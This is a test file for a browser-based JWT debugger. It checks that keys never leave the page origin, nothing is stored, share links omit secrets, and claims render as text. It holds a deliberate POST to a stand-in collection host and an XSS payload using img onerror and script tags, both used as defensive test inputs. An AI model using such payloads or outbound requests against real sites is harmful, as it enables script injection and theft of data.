// The privacy promise, checked: while a user pastes a token and a key, verifies and signs,
// nothing leaves for another origin, nothing is stored, and the CSP refuses foreign fetches.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ROOT, useServerAndBrowser, verdictBecomes } from './lib.mjs';

const SECRET_MARK = 'private-key-material';
const shared = useServerAndBrowser();

test('a paste-verify-sign session talks to no one but its own origin', async () => {
  const context = await shared.browser.newContext();
  const page = await context.newPage();
  const requests = [];
  page.on('request', (r) => requests.push(r.url()));
  const finished = [];
  page.on('requestfinished', (r) => finished.push(r.url()));
  const logs = [];
  page.on('console', (m) => logs.push(m.text()));
  await page.goto(shared.server.url);
  await page.getByTestId('payload-json').waitFor();

  const pem = await readFile(join(ROOT, 'tests/vectors/keys/p256.sec1.pem'), 'utf8');
  await page.getByTestId('signing-key-input').fill(pem);
  await page.getByTestId('alg-select').selectOption('ES256');
  await page.getByTestId('payload-json').fill(`{"sub":"bob","note":"${SECRET_MARK}"}`);
  await page.getByTestId('key-input').fill(pem);
  assert.equal(await verdictBecomes(page, 'verified'), 'verified');
  await page.getByTestId('key-input').fill('a-hmac-secret-that-must-stay-here');

  const origin = new URL(shared.server.url).origin;
  const elsewhere = requests.filter((u) => !u.startsWith(origin));
  assert.deepEqual(elsewhere, [], 'every request the app made stays on the page origin');

  // The CSP refuses a connection to any other origin, even one a script tries on purpose.
  const foreign = await page.evaluate(async () => {
    try { await fetch('https://example.com/collect', { method: 'POST', body: 'x' }); return 'sent'; }
    catch (e) { return 'refused'; }
  });
  assert.equal(foreign, 'refused');
  const img = await page.evaluate(() => new Promise((resolve) => {
    const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => resolve('refused');
    i.src = 'https://example.com/pixel.png';
  }));
  assert.equal(img, 'refused');

  assert.deepEqual(finished.filter((u) => !u.startsWith(origin)), [], 'no request to another origin completed');

  const storage = await page.evaluate(() => JSON.stringify({ l: { ...localStorage }, s: { ...sessionStorage }, c: document.cookie }));
  assert.equal(storage, '{"l":{},"s":{},"c":""}');
  assert.ok(!page.url().includes('BEGIN'), 'no key in the URL');
  assert.ok(!logs.some((l) => l.includes('BEGIN') || l.includes('must-stay-here')), 'no key in the console');
  await context.close();
});

test('the share link carries the token in the fragment only, and opening it fills the debugger', async () => {
  const context = await shared.browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await context.newPage();
  await page.goto(shared.server.url);
  await page.getByTestId('payload-json').waitFor();
  await page.getByTestId('key-input').fill('your-256-bit-secret');
  await page.getByTestId('signing-key-input').fill('another-secret-that-must-not-travel');
  await page.getByTestId('share-link').click();
  await page.getByTestId('share-status').waitFor();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const token = await page.getByTestId('token-input').inputValue();
  assert.equal(link, `${shared.server.url}#token=${token}`);
  assert.ok(!link.includes('secret'), 'no secret in the link');

  for (const param of ['token', 'id_token', 'access_token']) {
    const fresh = await context.newPage();
    await fresh.goto(`${shared.server.url}#${param}=${token}&token_type=Bearer`);
    await fresh.getByTestId('payload-json').waitFor();
    assert.equal(await fresh.getByTestId('token-input').inputValue(), token);
    assert.ok(!fresh.url().includes(token), 'the fragment is cleared after reading');
    await fresh.close();
  }
  await context.close();
});

test('claims with HTML or script are shown as text', async () => {
  const context = await shared.browser.newContext();
  const page = await context.newPage();
  await page.goto(shared.server.url);
  await page.getByTestId('payload-json').waitFor();
  const b64 = (s) => Buffer.from(s).toString('base64url');
  const evil = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
  const header = b64(JSON.stringify({ alg: 'HS256', kid: evil }));
  const payload = b64(JSON.stringify({ sub: evil, [evil]: 1 }));
  await page.getByTestId('token-input').fill(`${header}.${payload}.AAAA`);
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => window.__pwned ?? null), null);
  assert.equal(await page.locator('img[src=x]').count(), 0);
  assert.match(await page.getByTestId('payload-json').inputValue(), /<img src=x/);
  await context.close();
});
